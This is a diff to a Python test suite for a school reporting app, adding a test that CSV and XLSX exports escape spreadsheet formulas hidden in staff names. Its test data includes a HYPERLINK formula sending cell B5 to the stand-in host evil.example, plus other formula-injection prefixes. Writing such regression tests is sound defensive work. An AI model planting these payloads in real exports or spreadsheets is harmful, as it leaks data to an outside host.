@@ -155,3 +155,32 @@ async def test_drill_down_pages_teacher_then_group_with_names_and_audit(client):
     assert (await client.get(f"/ui/reports/units/{UNIT}/teachers/{T1}/groups/G1", headers=other)).status_code == 403
     missing = await client.get(f"/ui/reports/units/{UNIT}/teachers/{T1}/groups/NOPE?{Q}", headers=h)
     assert missing.status_code == 404
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&B5, "Klikkaa")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
+                 "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("name", FORMULA_NAMES)
+async def test_exports_never_carry_a_formula_from_a_name(name):
+    """The finding: a staff name from the SIS feed was written raw into the CSV and as a live formula into the XLSX."""
+
+    class FormulaNames(FakeNames):
+        async def staff(self, oids):
+            return {o: name for o in oids if o}
+
+    deps = ReportDeps(await project(events()), FormulaNames())  # type: ignore[arg-type]
+    app = app_for_tests([build_api_router(deps)], audit=RecordingAudit())
+    h = auth_headers(Role.EDUCATION_MANAGER, **MANAGER)
+    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://test") as c:
+        r = await c.get(f"/reports/units/{UNIT}.csv?{Q}", headers=h)
+        x = await c.get(f"/reports/units/{UNIT}.xlsx?{Q}", headers=h)
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    named = [row[0] for row in rows if row[1] == T1]
+    assert named == ["'" + name]  # shown as text by spreadsheets
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    sheet = load_workbook(io.BytesIO(x.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the workbook"
+    t1_name = next(row[0] for row in sheet.iter_rows(min_row=4) if row[1].value == T1)
+    assert t1_name.value.strip() == name.strip() and t1_name.data_type == "s"  # XML keeps \r as \n
